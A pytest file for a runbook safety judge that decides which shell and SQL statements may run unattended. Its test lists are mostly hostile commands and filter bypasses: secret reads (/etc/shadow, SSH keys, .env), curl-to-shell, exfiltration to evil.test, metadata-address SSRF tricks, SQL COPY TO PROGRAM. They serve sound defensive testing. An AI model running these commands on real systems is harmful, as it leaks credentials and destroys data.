"""What may run unattended: the list is small, and everything around it is a trap."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tocsin.core.risk import Risk, Verdict
from tocsin.core.runbook import Language, Statement, Where
from tocsin.running.risk import judge, plain_get


def judged(text: str, language: Language = Language.BASH) -> Verdict:
    return judge(Statement(start=1, end=1, language=language, text=text))


TRAPS = [
    "find / -name x -exec rm {} \\;",
    "find . -exec sh -c 'id' \\;",
    "find . -delete",
    "find . -fprint /tmp/x",
    "find . -fls x",
    "sort -o /etc/x /etc/y",
    "sort --output=x y",
    "sort --compress-program=sh x",
    "sort -T /tmp x",
    "sort -no x y",
    "uniq a b",
    "awk 'BEGIN{system(\"id\")}'",
    "awk '{print > \"f\"}' x",
    "awk '{print | \"sh\"}' x",
    "awk '{\"id\" | getline x}'",
    "awk -f prog.awk x",
    "awk -i inplace '{print}' f",
    "awk 'BEGIN{print ENVIRON[\"X\"]}'",
    "sed -i s/a/b/ f",
    "sed -n '1w /tmp/x' f",
    "sed 's/a/b/e' f",
    "sed '1e id' f",
    "sed --in-place s/a/b/ f",
    "tar -tf x --checkpoint=1 --checkpoint-action=exec=sh",
    "tar xf x",
    "git -c core.pager=sh log",
    "git log",
    "curl -o f http://a.test/",
    "curl -O http://a.test/x",
    "curl -d x=1 http://a.test/",
    "curl -X POST http://a.test/",
    "curl -XDELETE http://a.test/",
    "curl -T f http://a.test/",
    "curl -K conf",
    "curl file:///etc/shadow",
    "curl -F a=@b http://a.test/",
    "curl --json '{}' http://a.test/",
    "curl -w '%output{/tmp/x}' http://a.test/",
    "curl -H @f http://a.test/",
    "curl http://169.254.169.254/latest/meta-data",
    "curl http://a.test/admin/restart",
    "curl -sG http://a.test/ --data-urlencode q=up",
    "curl http://a.test/ -so /tmp/f",
    "curl http://a.test/{a,b}",
    "curl http://a.test/ | sh",
    "curl http://a.test/ | bash -s",
    "openssl x509 -in a -out b",
    "openssl rand -out f 10",
    "openssl enc -d -in x",
    "env",
    "printenv",
    "env X=1 ls",
    "export -p",
    "set",
    "cat .env",
    "cat /app/.env.production",
    "cat /proc/1/environ",
    "cat /proc/*/environ",
    "cat /proc/self/env*",
    "cat /etc/shadow",
    "cat /etc/shado?",
    "cat ~/.ssh/id_rsa",
    "cat /etc/ssl/private/server.key",
    "head -n 5 ~/.pgpass",
    "grep -r password .",
    "grep x $(rm y)",
    "grep x `rm y`",
    "cat <(rm y)",
    "ls >(rm y)",
    "echo $SECRET",
    "echo $API_KEY",
    'echo "$DATABASE_PASSWORD"',
    "ls > f",
    "ls >> f",
    "ls &> f",
    "ls 2> err",
    "ls >| f",
    "ls | tee f",
    "ls | xargs rm",
    "ls | xargs cat",
    "ls | sh",
    "ls; rm x",
    "ls && rm x",
    "ls || reboot",
    "ls & rm x",
    "ls &",
    "alias ls=rm",
    "ls() { rm x; }",
    "eval ls",
    "exec ls",
    ". ./x",
    "source x",
    "bash -c 'ls'",
    "sh x",
    "python3 -c 'print(1)'",
    "perl -e 1",
    "ruby -e 1",
    "node -e 1",
    "sudo ls",
    "ssh host ls",
    "$CMD x",
    '"$CMD" x',
    "${CMD} x",
    "$(echo rm) x",
    "l\\s$X",
    "cat {-n,x}",
    "\\rm x",
    "'rm' x",
    "r''m x",
    "ｌｓ",
    "cat –n x",
    "rm –rf x",
    "сat x",
    "ls /\u200btmp",
    "PATH=/tmp ls",
    "LD_PRELOAD=x ls",
    "docker exec -it c sh",
    "docker exec c sh -c 'ls'",
    "docker exec c rm x",
    "docker exec --privileged c ls",
    "docker run x ls",
    "docker rm x",
    "docker system prune -f",
    "docker inspect x",
    "docker compose config",
    "docker compose down -v",
    "docker logs <name>",
    "kubectl get secrets -o yaml",
    "kubectl get secret/x",
    "kubectl delete pod x",
    "kubectl exec p -- sh -c ls",
    "kubectl get pods -o yaml",
    "systemctl restart x",
    "systemctl show x",
    "journalctl --vacuum-time=1d",
    "journalctl --rotate",
    'psql -c "DELETE FROM t"',
    'psql -c "SELECT pg_terminate_backend(1)"',
    "psql -c \"COPY t TO PROGRAM 'id'\"",
    'psql -c "\\! id"',
    'psql -c "SELECT 1" -o f',
    "psql -f x.sql",
    'psql -c "SELECT 1; DROP TABLE x"',
    'psql -c "SELECT $X"',
    'psql $DATABASE_URL -c "SELECT 1"',
    "psql",
    'sqlite3 db ".shell id"',
    'sqlite3 db "DELETE FROM t"',
    "sqlite3 db \"SELECT load_extension('x')\"",
    "sqlite3 db \"SELECT writefile('a','b')\"",
    'sqlite3 -readonly -init x db "SELECT 1"',
    'sqlite3 -cmd ".shell id" db "select 1"',
    "redis-cli flushall",
    "redis-cli FLUSHDB",
    "redis-cli config set a b",
    "redis-cli monitor",
    'redis-cli eval "x" 0',
    "redis-cli -x set a",
    "redis-cli config get requirepass",
    "ping -f a",
    "nc -l 80",
    "nc a.test 80",
    "hostname evil",
    "date -s now",
    "date 0101",
    "hostname -F f",
    "ip link set eth0 down",
    "ip addr flush dev eth0",
    "dmesg -c",
    "dmesg --clear",
    "ss -K",
    "mount",
    "dd if=/dev/zero of=x",
    "cat /dev/zero",
    "cat /dev/sda",
    "kill -9 1",
    "kill 1",
    "pkill -9 x",
    "tee f",
    "cd /tmp && rm x",
    "truncate -s 0 f",
    ": > f",
    "> f",
    "ls YOUR_DIR",
    "cat /var/log/[name here]/x",
    "ping YOUR_IP",
    "if true; then rm x; fi",
    "while true; do ls; done",
    "for i in 1 2; do ls; done",
    "time rm x",
    "timeout 5 rm x",
    "timeout 5 bash -c ls",
    "watch rm x",
    "watch 'ls; rm x'",
    "nohup ls &",
    "cat x | while read l; do rm $l; done",
    "less x",
    "vi x",
    "crontab -r",
    "crontab -e",
    "nginx -s stop",
    "ps e",
    "ps aux e",
    "ps eww",
    "ps auxe",
    "stat x; id -u root > y",
    "test -f x && rm x",
    "[ -f $(rm x) ]",
    "[[ -f x ]] && rm x",
    "((x=1))",
    "let x=1",
    "echo ${x:=1}",
    "echo $((x=1))",
    "read x",
    "trap ls EXIT",
    "unset x",
    "printf -v x y",
    "ls *",
    "cat *",
    "grep x -f /etc/shadow",
    "grep -f .env x",
    "grep --file=.env x",
    "wc --files0-from=x",
    "du --files0-from=x",
    "jq env",
    "jq '$ENV.X'",
    "jq -f p x",
    "jq '.' --rawfile a .env",
    "file -m x y",
    "file -C",
    "sort --files0-from=x",
    "date -f .env",
    "dig -f x",
    "lsof +r",
    "host -l a b c",
    "tail --pid=1 -f .env",
    "docker exec c cat .env",
    "docker exec c env",
    "docker -H tcp://x ps",
    "docker --config x ps",
    "docker ps --format '{{json .}}' > f",
    "kubectl --kubeconfig=x get pods",
    "curl -u a:b http://a.test/",
    "curl -x p http://a.test/",
    "curl --proxy p http://a.test/",
    "curl -b c http://a.test/",
    "curl -c c http://a.test/",
    "curl -E c http://a.test/",
    "curl --unix-socket /var/run/docker.sock http://a/",
    "curl --config x http://a.test/",
    "curl -s",
    "curl http://u:p@a.test/",
    "curl gopher://a.test/",
    'curl "http://a.test/$TOKEN"',
    "curl -X GET -d a http://a.test/",
    "curl -sf http://a.test/ -o/tmp/x",
    "curl -sfo /tmp/x http://a.test/",
    "/tmp/ls",
    "./ls",
    "../bin/ls",
    "ls;`id`",
    "!ls",
    "ls|&cat",
    "coproc ls",
    "select x in a; do ls; done",
    "function f { ls; }",
    "openssl s_client -connect a:1 -sess_out f",
    "openssl x509 -noout -dates -engine x",
    "openssl s_client -connect a:1 -keylogfile x",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<<x",
    "ls >&x",
    "cat /etc/sh''adow",
    "cat /etc/*",
    "cat < .env",
    "ls \\\n; rm x",
    "f() { ls; }; f",
]

READS = [
    "ls -la /var/log",
    "df -h",
    "free -m",
    "uptime",
    "du -sh /var/* | sort -rh | head -10",
    "ps aux | grep worker",
    "ps -ef",
    "ps aux --sort=-%mem | head",
    "tail -n 100 /var/log/app.log",
    "cat /var/log/app.log | grep -i error | wc -l",
    "cat app.log 2>/dev/null | head -5",
    'grep -c "ERROR" /var/log/app.log',
    "docker ps -a",
    "docker-compose -f x.yml ps",
    "docker compose logs --tail=50 web",
    "docker exec c pg_isready -U postgres",
    "systemctl status nginx",
    "systemctl is-active nginx",
    "journalctl -u app -n 50",
    "kubectl get pods",
    "kubectl -n x get pods",
    "kubectl describe pod x",
    'psql -c "SELECT 1"',
    "psql -U a -d b -c \"SELECT count(*) FROM jobs WHERE state = 'x'\"",
    'sqlite3 -readonly queue.db "SELECT count(*) FROM jobs"',
    "redis-cli ping",
    "redis-cli -h h llen q",
    "redis-cli info memory",
    "curl -fsS -m 5 http://localhost/health",
    "ping -c 3 a.test",
    "top -b -n 1",
    "top -bn1 | head -20",
    "vmstat 1 5",
    "iostat -x 1 5",
    "iostat",
    'find /var/log -name "*.log" -mtime +7',
    "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head",
    "sed -n '1,20p' /etc/hosts",
    "date -u +%H:%M",
    "hostname",
    "test -f /tmp/x",
    "[ -f /tmp/x ]",
    "ls /tmp && df -h || uptime",
    "timeout 5 df -h",
    "echo hello",
    "gzip -t x.gz",
    "ss -tlnp",
    "nc -zv localhost 80",
    "openssl x509 -in c.crt -noout -dates",
    "stat -c %s /tmp/x",
    "pgrep -fl worker",
    "lsof -i :80",
    "/usr/bin/df -h",
    "cat /etc/passwd",
    "id",
    "echo | openssl s_client -connect a.test:443 2>/dev/null | openssl x509 -noout -dates",
    "cat /var/log/*.log",
    "grep ERROR /srv/app/logs/*.log",
    "journalctl -b -u app -n 50 --no-pager",
    "date --iso-8601=seconds",
]

BOUNDED = [
    ("tail -f /var/log/app.log", "tail -n 100 /var/log/app.log"),
    ("tail -F /var/log/app.log | grep ERROR", "tail -n 100 /var/log/app.log | grep ERROR"),
    ("tail -100f /var/log/app.log", "tail -100 /var/log/app.log"),
    ("docker logs app --tail 100 -f", "docker logs app --tail 100"),
    ("docker logs -f app", "docker logs --tail 100 app"),
    ("docker stats", "docker stats --no-stream"),
    ("docker exec -it c ps aux", "docker exec c ps aux"),
    (
        'docker exec -it db psql -U postgres -d x -c "SELECT count(*) FROM t;"',
        'docker exec db psql -U postgres -d x -c "SELECT count(*) FROM t;"',
    ),
    ("journalctl -u app -f", "journalctl -u app -n 100"),
    ("journalctl -fu app", "journalctl -n 100 -u app"),
    ("kubectl logs -f app", "kubectl logs --tail=100 app"),
    (
        'sqlite3 queue.db "SELECT count(*) FROM jobs"',
        'sqlite3 -readonly queue.db "SELECT count(*) FROM jobs"',
    ),
    ("curl http://localhost:8000/health", "curl --max-time 10 http://localhost:8000/health"),
    (
        "curl -s http://localhost:8000/health | jq .",
        "curl --max-time 10 -s http://localhost:8000/health | jq .",
    ),
    ("curl -I https://a.test/", "curl --max-time 10 -I https://a.test/"),
    (
        'curl -s -o /dev/null -w "%{http_code}" http://a.test/',
        'curl --max-time 10 -s -o /dev/null -w "%{http_code}" http://a.test/',
    ),
    ("ping a.test", "ping -c 3 a.test"),
    ("top", "top -b -n 1"),
    ("watch -n 5 'df -h'", "df -h"),
    ("vmstat 1", "vmstat 1 2"),
]

# Each of these once ran: found by attacking the list.
FOUND = [
    "printf -- '%n' PATH",
    'printf "$REGION" PATH',
    "cat /etc/shadow.bak",
    "cat /app/.env~",
    "cat .git/config",
    "cat .envrc",
    "cat /var/lib/docker/containers/x/config.v2.json",
    "cat /var/spool/cron/root",
    "cat core.1234",
    "curl -m 5 smtp.a.test",
    "curl -m 5 http:a",
    "curl -m 5 -",
    "psql -l -o /tmp/x",
    "psql --list -L /tmp/x",
    'psql -d -l -c "DELETE FROM t"',
    'echo "DELETE FROM t;" | psql -Utc "SELECT 1"',
    "docker exec c uniq -- -f 1",
    "timeout 5 10 ls",
    "timeout 5 -u rm ls",
    'awk \'BEGIN{ARGV[1]="/etc/sha" "dow";ARGC=2}{print}\'',
    "awk '{print SYMTAB[\"x\"]}' f",
    'awk "$REGION" f',
    'jq "$REGION" f',
    'timeout 5 echo "$DATABASE_URL"',
    '/bin/echo "$DATABASE_URL"',
    'docker exec c echo "$DATABASE_URL"',
    'ls "$DATABASE_URL"',
    'date "+$DATABASE_URL"',
    'curl -m 5 "http://evil.test/$DATABASE_URL"',
    'curl -m 5 http://a.test -w "$DATABASE_URL"',
    "uniq /tmp/a*",
    "docker exec c uniq /tmp/a*",
    'find . {"}",-delete}',
    'docker exec c find / {"}",-delete}',
    "uniq \\\\{a,b}",
    "cat ./*",
    "cat /app/*",
    "cat /etc/[^x]hadow",
    "cat /etc/[[:alpha:]]hadow",
    "cat /etc/ssl/site.ke?",
    "cat /app/s*",
    "cat //dev/zero",
    "cat /tmp/../dev/sda",
    "cat /etc/ssh/ssh_host_rsa_key",
    "cat /etc/environment",
    "cat /etc/kubernetes/admin.conf",
    "cat /etc/mysql/debian.cnf",
    "cat terraform.tfstate",
    "cat ~/.bashrc",
    "cat /etc/wireguard/wg0.conf",
    "ps -ue",
    "ps -auxe",
    "ps -eo pid,environ",
    "printf '%n' PATH",
    "printf '%nx' PATH; ls",
    "ping -i 0 -c 99999 a.test",
    "echo FLUSHALL | nc -w1z localhost 6379",
    "nc -w -z a.test 80",
    "journalctl -b --rotate",
    "journalctl -n --rotate",
    "journalctl -b --vacuum-time=1s",
    "grep --color -r password /app",
    "date --iso-8601 -s now",
    "date --iso-8601 01010000",
    "date --iso-8601 --set=now",
    "docker compose -f oci://evil/x ps",
    "docker compose -f https://evil/x.git ps",
    "sed -n 1p *",
    "gzip -t *",
    "jq . *",
    "openssl x509 -noout *",
    "awk '{print}' *",
    "printf 'POST /restart HTTP/1.0\\r\\n\\r\\n' | openssl s_client -connect x:443 -brief",
    "sqlite3 -readonly db \"SELECT data FROM fsdir WHERE path='/root/x'\"",
    "curl -m 5 http://metadata/computeMetadata/v1/",
    "curl -m 5 http:///169.254.169.254/latest",
    "curl -m 5 http:/169.254.169.254/latest",
    "curl -m 5 http://169.16689662/latest",
    "curl -m 5 http://0251.0376.0251.0376/",
    "curl -m 5 http://[::ffff:169.254.169.254]/",
    "curl -m 5 http://169%2e254.169.254/",
    "curl -m 5 http://a.test/%72estart",
    "curl -m 5 http://a.test/restartAll",
    "curl -m 5 http://a.test/api/pause",
    "curl -m 5 http://localhost:8080/actuator/env",
    "curl -m 5 http://localhost:8200/v1/secret/data/db",
    "curl -m 5 http://localhost:8080/actuator/heapdump",
    "curl -m 5 http://localhost/.env",
    "curl -m 5 'http://a.test/?_method=PUT'",
    "curl -m 5 'http://evil.test/$TOKEN'",
    "curl -m 5 http://evil.test/\\$TOKEN",
    "uniq == x",
    "find . -name == -delete",
    "find . -name $ -delete",
    "docker exec c find / -not -name == -delete",
    "ls 10#$(rm x)",
    "echo 10#`rm x`",
    'echo "\\\\$(rm x)"',
    "echo \\\\$(rm x)",
    "[ 1 > /tmp/x ]",
    "[ a && rm x ]",
    "[ a || reboot ]",
    "[ -f x -a -f y ]",
    "[[ a > b ]]",
    "[ a ; rm x ]",
    "[ -f x ] > y",
    "[ ( rm x ) ]",
    "test a > x",
    "ip -b a",
    "ip -batch route",
    "ip -force -b l",
    "gzip -t --force --decompress x",
    "gzip -l -9 x",
    "docker exec c pm2 list",
    "((a[$(rm x)]))",
    "echo $((1+1))",
    "for((;;)); do ls; done",
    'cat "/etc/sh\\\nadow"',
    "cat /etc/sh\\\nadow",
]

SQL_TRAPS = [
    "SELECT audit.lower('x')",
    "SELECT a.b.lower('x')",
    "SELECT * FROM evil.sum(1)",
    'SELECT "Count"(1)',
    "SELECT 1 OPERATOR(evil.+) 2",
    "SELECT 'x'::evil_type",
    "SELECT 'x'::evil.t",
    "SELECT * FROM t TABLESAMPLE evil(1)",
    "SELECT * FROM pg_user_mappings",
    "SELECT * FROM pg_subscription",
    "SELECT setting FROM pg_settings",
    "SHOW primary_conninfo",
    "SHOW ALL",
    "SHOW ssl_passphrase_command",
    "SELECT data FROM fsdir WHERE path = '/root'",
    "SELECT 1 {# x #}",
    "DELETE FROM t",
    "UPDATE t SET a = 1",
    "COPY t TO PROGRAM 'id'",
    "COPY t FROM '/etc/passwd'",
    "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone",
    "WITH new AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM new",
    "SELECT * INTO b FROM a",
    "SELECT * FROM t FOR UPDATE",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_catalog.pg_reload_conf()",
    'SELECT "pg_reload_conf"()',
    "SELECT pg_sleep(100)",
    "SELECT nextval('s')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT * FROM pg_read_file('/etc/passwd')",
    "SELECT * FROM dblink('x', 'DELETE FROM t')",
    "SELECT query_to_xml('DELETE FROM t', true, true, '')",
    "SELECT set_config('a.b', 'c', false)",
    "SELECT load_extension('x')",
    "SELECT our_own_function(1)",
    "SELECT current_version()",
    "SELECT parse_json('1')",
    "SELECT 1; DROP TABLE t",
    "EXPLAIN ANALYZE DELETE FROM t",
    "EXPLAIN  ANALYZE SELECT our_own_function(1)",
    "EXPLAIN (ANALYZE) DELETE FROM t",
    "ALTER SYSTEM SET x = 1",
    "SET default_transaction_read_only = off",
    "TRUNCATE t",
    "VACUUM FULL",
    "CALL tidy()",
    "DO $$ BEGIN DELETE FROM t; END $$",
    "PRAGMA writable_schema = 1",
    "ATTACH 'x' AS y",
    "SELECT passwd FROM pg_shadow",
    "SELECT /* /* */ 1; DELETE FROM t; -- */ 2",
    "SELECT $1",
    "SELECT 1 WHERE a = :id",
    "VALUES (1)",
    "this is no SQL",
    "",
]
ENDS = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
SQL_READS = [
    "SELECT 1;",
    "SELECT version();",
    "SELECT count(*) FROM jobs WHERE state = 'stuck'",
    "SELECT pid, now() - query_start AS age FROM pg_stat_activity ORDER BY age DESC LIMIT 5",
    "SELECT a FROM t UNION SELECT b FROM u",
    "EXPLAIN SELECT 1",
    "SHOW max_connections",
]


@pytest.mark.parametrize("text", TRAPS)
def test_a_trap_never_runs_unattended(text: str) -> None:
    """One of these run by itself at night is the worst thing the product could do."""
    assert not judged(text).auto


@pytest.mark.parametrize("text", FOUND)
def test_what_once_slipped_through_does_not_again(text: str) -> None:
    """A hole in the list is found once; variables with a value make none."""
    statement = Statement(start=1, end=1, language=Language.BASH, text=text)
    assert not judge(statement, bound=frozenset({"REGION", "DATABASE_URL"})).auto


@pytest.mark.parametrize("text", READS)
def test_what_plainly_looks_runs_as_it_is(text: str) -> None:
    """A list that refuses everything would be safe and useless."""
    verdict = judged(text)
    assert (verdict.auto, verdict.rewrite, verdict.risk) == (True, None, Risk.READ)


@pytest.mark.parametrize(("text", "rewrite"), BOUNDED)
def test_what_never_ends_runs_in_a_form_that_does(text: str, rewrite: str) -> None:
    """Evidence from a log that is followed is still evidence, once it ends."""
    verdict = judged(text)
    assert (verdict.auto, verdict.rewrite) == (True, rewrite)


@pytest.mark.parametrize("text", SQL_TRAPS)
def test_sql_that_may_act_never_runs_unattended(text: str) -> None:
    """A read-only session does not stop functions, so the statement itself must be safe."""
    assert not judged(text, Language.SQL).auto


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("UPDATE mails SET state = 'canceled' WHERE age > 9", Risk.DESTROY),
        ("UPDATE mails SET state = 'waiting' WHERE age > 9", Risk.CHANGE),
        (f"{ENDS} WHERE state = 'active'", Risk.DESTROY),
        (f"{ENDS} WHERE state = 'idle in transaction'", Risk.DESTROY),
        (f"{ENDS} WHERE state = 'idle' OR pid > 1", Risk.DESTROY),
        (f"{ENDS} WHERE datname = 'shop' AND state = 'idle'", Risk.CHANGE),
        ("SELECT count(*) FROM pg_stat_activity WHERE state = 'idle'", Risk.READ),
    ],
)
def test_work_that_is_given_up_is_lost(text: str, risk: Risk) -> None:
    """A cancelled job is not done; a session that does nothing loses nothing."""
    assert judged(text, Language.SQL).risk is risk


@pytest.mark.parametrize("text", SQL_READS)
def test_a_plain_query_runs_unattended(text: str) -> None:
    """Counting rows is what an investigation mostly does."""
    assert judged(text, Language.SQL).auto


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("rm -rf /srv/x", Risk.DESTROY),
        ("find /var -name x -delete", Risk.DESTROY),
        ("redis-cli FLUSHDB", Risk.DESTROY),
        ("docker system prune -af", Risk.DESTROY),
        ("kill -9 42", Risk.DESTROY),
        ("sudo rm x", Risk.DESTROY),
        ("./scripts/restore_db.sh latest", Risk.DESTROY),
        ('psql -c "DROP TABLE t"', Risk.DESTROY),
        ("systemctl restart app", Risk.CHANGE),
        ("an-unknown-command", Risk.CHANGE),
        ("cat .env", Risk.SECRET),
        ("vim /etc/hosts", Risk.ENDLESS),
        ("if then", Risk.MANUAL),
        ("sudo nano /etc/app/settings.yml", Risk.ENDLESS),
        ("sudo less /etc/app/settings.yml", Risk.SECRET),
        ("sudo journalctl --vacuum-size=1G", Risk.DESTROY),
        ("find / -name '*.tmp' -exec ls -l {} \\;", Risk.READ),
        ("find / -name '*.tmp' -exec ls -l {} \\; -delete", Risk.DESTROY),
        ("find / -name '*.tmp' -exec shred {} +", Risk.DESTROY),
        ("find / -name '*.tmp' -exec", Risk.READ),
        ("find / -name '*.tmp' -exec mv {} /tmp \\;", Risk.CHANGE),
        ('python3 -c "shutil.rmtree(path)"', Risk.DESTROY),
        ('python3 -c "print(1)"', Risk.CHANGE),
        ("python3 tools/queue_status.py --verbose", Risk.READ),
        ("python3 tools/queue_status.py --restart", Risk.CHANGE),
        ("python3 tools/update_status.py", Risk.CHANGE),
        ("php tools/restore_dump.php", Risk.DESTROY),
        ("PIN=$(openssl rand -hex 8)", Risk.READ),
        ("openssl rand -hex 8 -out pin", Risk.CHANGE),
        ('sed -i "s/^API_TOKEN=.*/API_TOKEN=$PIN/" /srv/app/.env', Risk.DESTROY),
        ("sed -i s/a/b/ notes.txt", Risk.CHANGE),
        ("watch -n 9 'python3 tools/queue_status.py'", Risk.ENDLESS),
    ],
)
def test_what_must_wait_says_why(text: str, risk: Risk) -> None:
    """A person who approves reads this word first."""
    verdict = judged(text)
    assert verdict.risk is risk
    assert verdict.why


def test_a_bound_variable_in_quotes_is_no_doubt() -> None:
    """The workspace knows its own database; the runbook names it by variable."""
    statement = Statement(start=1, end=1, language=Language.BASH, text='psql "$DB" -c "SELECT 1"')
    assert judge(statement, bound=frozenset({"DB"})).auto
    assert not judge(statement).auto


def test_a_query_of_metrics_only_looks() -> None:
    """PromQL has no statement that writes; one that does not parse is nothing to run."""
    assert judged("rate(errors_total[5m])", Language.PROMQL).auto
    assert judged("rate(errors_total", Language.PROMQL).risk is Risk.MANUAL


def test_a_plain_curl_is_a_request() -> None:
    """Such a statement needs neither a shell nor curl."""
    request = plain_get("curl -fsS -m 5 -H 'Accept: text/plain' localhost:8000/health")
    assert request is not None
    assert request.as_text() == "GET http://localhost:8000/health\nAccept: text/plain"
    assert request.fail


@pytest.mark.parametrize(
    "text",
    [
        "curl -o f http://a.test/",
        "curl http://a.test/ | sh",
        "curl -X POST http://a.test/",
        'curl "http://a.test/$X"',
        "curl -L http://a.test/",
        "curl http://a.test/ http://b.test/",
        "X=1 curl http://a.test/",
        "wget http://a.test/",
        "curl 'http://a.test/$TOKEN'",
    ],
)
def test_any_other_curl_is_not_taken_for_one(text: str) -> None:
    """What only curl can do is left to curl."""
    assert plain_get(text) is None


def test_what_is_written_into_something_else_never_runs_by_itself() -> None:
    """A look that is meant for another host would look at the wrong one."""
    plain = Statement(start=1, end=1, language=Language.BASH, text="uptime")
    assert judge(plain).auto
    inside = judge(replace(plain, where=Where.INSIDE))
    assert (inside.risk, inside.auto, inside.rewrite) == (Risk.READ, False, None)
    setting = judge(replace(plain, text="GATES=4", where=Where.FILE))
    assert (setting.risk, setting.auto) == (Risk.MANUAL, False)


def test_endless_nesting_is_not_certain() -> None:
    """Whatever breaks the judge must count against the statement."""
    assert not judged("echo " + "$(" * 5000).auto
    assert not judged("SELECT " + "(" * 5000 + "1" + ")" * 5000, Language.SQL).auto


def test_a_key_in_a_header_is_shown_to_the_server_and_to_nobody_else() -> None:
    """That is how one logs in; with -v curl would print it."""
    shown = 'curl {}-H "Authorization: Bearer $TOKEN" https://api.test/v1/models'
    elsewhere = 'curl -H "X-Note: $DATABASE_PASSWORD" https://api.test/'

    verdicts = [judged(text).risk for text in (shown.format(""), shown.format("-v "), elsewhere)]

    assert verdicts == [Risk.READ, Risk.SECRET, Risk.SECRET]


def test_a_guard_in_the_sentence_waits_for_a_person() -> None:
    """Nobody reads the sentence when the statement runs by itself."""
    asked = Statement(
        start=1, end=1, language=Language.BASH, text="df -h", guard="Only after the pilot agrees."
    )

    verdict = judge(asked)

    assert judged("df -h").auto
    assert (verdict.risk, verdict.auto, verdict.rewrite) == (Risk.READ, False, None)
    assert verdict.why[0] == "the runbook asks for care: Only after the pilot agrees."
